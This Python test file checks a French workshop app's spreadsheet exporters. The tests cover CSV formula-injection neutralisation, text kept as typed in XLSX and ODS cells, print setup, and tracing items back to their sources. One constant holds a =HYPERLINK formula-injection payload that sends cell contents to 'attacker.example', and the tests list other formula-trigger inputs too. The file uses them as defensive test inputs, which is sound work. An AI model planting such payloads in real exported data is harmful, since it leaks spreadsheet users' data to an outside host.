"""Spreadsheet cells: formula injection neutralised in CSV, text kept as typed in string cells of
XLSX and ODS, and the writers read back by independent readers (csv, openpyxl, odfpy, the raw XML),
with accents, a BOM, numbers kept as numbers, and the print setup of every sheet."""

import csv
import io
import zipfile

import openpyxl
import pytest
from odf import table as odf_table
from odf import text as odf_text
from odf.opendocument import load

from app.domain.provenance import ItemLink, source_items
from app.exports.cells import neutralise
from app.exports.enjeux import join_sources
from app.exports.names import download_name, slug
from app.exports.tabular import Fixed, sheet_name, to_csv, to_json, to_ods, to_xlsx

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Cliquez")'
HEADERS = ["rang", "enjeu", "score", "accord", "retenu", "note"]
ROWS = [
    [1, HYPERLINK, 12, 0.4235, True, None],
    [2, "Mieux équiper les lieux et/ou les publics ; « guillemets »", -3, 0.5, False, "ligne 1\nligne 2"],
    [3, "@SUM(A1)", 0, None, False, "+33 5 53 00 00 00"],
    [4, "-2+3", 7, 1.0, True, "\tcaché"],
]


# ---------------------------------------------------------------- neutralise


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, "=", "@"])
def test_text_that_could_start_a_formula_gets_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Former les agents", "", " =1+1", "'=1+1", "1=1", "é=1", "Coût : 3 €",
                                   "«=1»"])
def test_other_text_is_unchanged(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [0, -1, 3, -2.5, 0.0, 1e9, True, False, None])
def test_numbers_and_non_text_are_untouched(value: object) -> None:
    result = neutralise(value)
    assert result is value or result == value
    assert type(result) is type(value)


# ---------------------------------------------------------------- CSV


def test_csv_is_utf8_with_bom_semicolons_crlf_and_decimal_commas() -> None:
    data = to_csv(HEADERS, ROWS)
    assert data.startswith(b"\xef\xbb\xbf")
    decoded = data.decode("utf-8")[1:]
    assert decoded.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(decoded, newline=""), delimiter=";"))
    assert rows[0] == HEADERS
    assert rows[1] == ["1", "'" + HYPERLINK, "12", "0,4235", "oui", ""]
    assert rows[2] == ["2", "Mieux équiper les lieux et/ou les publics ; « guillemets »", "-3", "0,5", "non",
                       "ligne 1\nligne 2"]
    assert rows[3] == ["3", "'@SUM(A1)", "0", "", "non", "'+33 5 53 00 00 00"]
    assert rows[4] == ["4", "'-2+3", "7", "1", "oui", "'\tcaché"]
    assert len(rows) == 5


def test_csv_comma_variant_uses_decimal_points() -> None:
    data = to_csv(HEADERS, ROWS, sep=",")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=","))
    assert rows[1] == ["1", "'" + HYPERLINK, "12", "0.4235", "oui", ""]
    assert rows[2][1] == "Mieux équiper les lieux et/ou les publics ; « guillemets »"
    assert rows[2][3] == "0.5"


def test_csv_refuses_an_unknown_separator_and_ragged_rows() -> None:
    with pytest.raises(ValueError, match="separator"):
        to_csv(HEADERS, ROWS, sep="\t")
    with pytest.raises(ValueError, match="row 1 has 2 cells for 6 columns"):
        to_csv(HEADERS, [[1, "a"]])


# ---------------------------------------------------------------- XLSX


def test_xlsx_round_trip_keeps_numbers_and_text_as_typed_in_string_cells() -> None:
    data = to_xlsx(HEADERS, ROWS, "Enjeux : classés [test]")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "Enjeux classés test"
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == HEADERS
    assert values[1] == [1, HYPERLINK, 12, 0.4235, "oui", None]
    assert values[2] == [2, "Mieux équiper les lieux et/ou les publics ; « guillemets »", -3, 0.5, "non",
                         "ligne 1\nligne 2"]
    assert values[3] == [3, "@SUM(A1)", 0, None, "non", "+33 5 53 00 00 00"]
    assert values[4][1] == "-2+3" and values[4][5] == "\tcaché"
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type == "s"  # text, never a formula ("f")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


def test_xlsx_sheets_print_landscape_fitted_to_width_with_the_header_on_every_page() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(HEADERS, ROWS, "Enjeux", "Atelier — enjeux"))).active
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.center.text == "Atelier — enjeux"
    # text with a line break wraps, and its row is tall enough for its two lines (LibreOffice does not
    # recompute XLSX row heights: tests/integration/test_spreadsheet_print.py prints it)
    assert sheet["F3"].alignment.wrap_text and sheet.row_dimensions[3].height >= 2 * 13
    assert sheet.row_dimensions[2].height is None  # one line: the default height


def test_a_fixed_number_is_rounded_in_csv_and_exact_behind_two_decimals_in_spreadsheets() -> None:
    rows = [[Fixed(0.525), Fixed(0.125), Fixed(2.675), Fixed(1 / 3)]]
    head = ["a", "b", "c", "d"]
    assert to_csv(head, rows).decode("utf-8-sig").splitlines()[1] == "0,53;0,13;2,68;0,33"
    assert to_csv(head, rows, sep=",").decode("utf-8-sig").splitlines()[1] == "0.53,0.13,2.68,0.33"
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(head, rows, "W"))).active
    assert [c.value for c in sheet[2]] == [0.525, 0.125, 2.675, 1 / 3]
    assert {c.number_format for c in sheet[2]} == {"0.00"} and {c.data_type for c in sheet[2]} == {"n"}
    _, ods = _ods_rows(to_ods(head, rows, "W"))
    assert ods[1] == [("float", "0.525", "0,53"), ("float", "0.125", "0,13"), ("float", "2.675", "2,68"),
                      ("float", repr(1 / 3), "0,33")]


# ---------------------------------------------------------------- ODS


def _ods_rows(data: bytes) -> tuple[str, list[list[tuple[str | None, str | None, str]]]]:
    doc = load(io.BytesIO(data))
    (sheet,) = doc.spreadsheet.getElementsByType(odf_table.Table)
    rows = []
    for row in sheet.getElementsByType(odf_table.TableRow):
        cells = []
        for cell in row.getElementsByType(odf_table.TableCell):
            shown = "\n".join(str(p) for p in cell.getElementsByType(odf_text.P))
            repeat = int(cell.getAttribute("numbercolumnsrepeated") or 1)
            cells += [(cell.getAttribute("valuetype"), cell.getAttribute("value"), shown)] * repeat
        rows.append(cells[: len(HEADERS)])
    return sheet.getAttribute("name"), rows


def test_ods_round_trip_read_by_odfpy() -> None:
    name, rows = _ods_rows(to_ods(HEADERS, ROWS, "Enjeux"))
    assert name == "Enjeux"
    assert [c[2] for c in rows[0]] == HEADERS
    assert rows[1][0] == ("float", "1", "1")
    assert rows[1][1] == ("string", None, HYPERLINK)
    assert rows[1][3][:2] == ("float", "0.4235")
    assert rows[1][4] == ("string", None, "oui")
    assert rows[2][1] == ("string", None, "Mieux équiper les lieux et/ou les publics ; « guillemets »")
    assert rows[2][2][:2] == ("float", "-3")
    assert rows[3][1] == ("string", None, "@SUM(A1)")
    assert rows[3][5] == ("string", None, "+33 5 53 00 00 00")
    assert rows[4][1] == ("string", None, "-2+3")
    assert len(rows) == 5
    content = zipfile.ZipFile(io.BytesIO(to_ods(HEADERS, ROWS, "Enjeux"))).read("content.xml").decode()
    assert "table:formula" not in content


def test_ods_sheets_print_landscape_fitted_to_width_with_the_header_on_every_page() -> None:
    doc = load(io.BytesIO(to_ods(HEADERS, ROWS, "Enjeux", "Atelier — enjeux")))
    (sheet,) = doc.spreadsheet.getElementsByType(odf_table.Table)
    (header_rows,) = sheet.getElementsByType(odf_table.TableHeaderRows)
    assert [str(p) for p in header_rows.getElementsByType(odf_text.P)] == HEADERS
    styles = zipfile.ZipFile(io.BytesIO(to_ods(HEADERS, ROWS, "Enjeux", "Atelier — enjeux"))).read(
        "styles.xml").decode()
    assert 'style:print-orientation="landscape"' in styles and 'style:scale-to-X="1"' in styles
    assert "Atelier — enjeux" in styles


def test_writers_cope_with_no_rows() -> None:
    assert to_csv(HEADERS, []).decode("utf-8-sig") == ";".join(HEADERS) + "\r\n"
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(HEADERS, [], "Vide")))
    assert [[c.value for c in r] for r in book.active.iter_rows()] == [HEADERS]
    assert [c[2] for c in _ods_rows(to_ods(HEADERS, [], "Vide"))[1][0]] == HEADERS


def test_json_keeps_text_as_written() -> None:
    assert to_json({"enjeu": "=1+1 « é »"}) == '{\n  "enjeu": "=1+1 « é »"\n}\n'.encode()


def test_sheet_and_file_names() -> None:
    assert sheet_name("a" * 40) == "a" * 31
    assert sheet_name("[]") == "Feuille 1"
    assert slug("Atelier d'Évry : « enjeux » 2025") == "atelier-d-evry-enjeux-2025"
    assert download_name("enjeux-3", "Priorisation des enjeux", "csv", "-virgules") == \
        "enjeux-3-priorisation-des-enjeux-virgules.csv"
    assert download_name("compte-rendu", "«»", "pdf") == "compte-rendu.pdf"


# ---------------------------------------------------------------- provenance of an enjeu


def test_sources_follow_copies_and_merges_back_to_the_post_its() -> None:
    items = {
        1: ItemLink(1, "Population vieillissante", None, 3),
        2: ItemLink(2, "De plus en plus de seniors", None, 3),
        3: ItemLink(3, "Vieillissement", None, None),  # the merge of 1 and 2
        4: ItemLink(4, "La fibre", None, None),
        10: ItemLink(10, "Vieillissement", 3, None),  # the rating's copy of the merge
        11: ItemLink(11, "La fibre", 4, None),
        20: ItemLink(20, "Vieillissement", 10, None),  # the ranking's copies
        21: ItemLink(21, "La fibre", 11, None),
        22: ItemLink(22, "Ajouté par l'animatrice", None, None),
        30: ItemLink(30, "Cycle a", 31, None),  # corrupt data must not loop
        31: ItemLink(31, "Cycle b", 30, None),
    }
    assert [s.text for s in source_items(20, items)] == ["Population vieillissante",
                                                         "De plus en plus de seniors"]
    assert [s.text for s in source_items(21, items)] == ["La fibre"]
    assert source_items(22, items) == []
    assert source_items(30, items) == []
    assert source_items(999, items) == []
    assert join_sources(["a", "b", "a", ""]) == "a ; b"
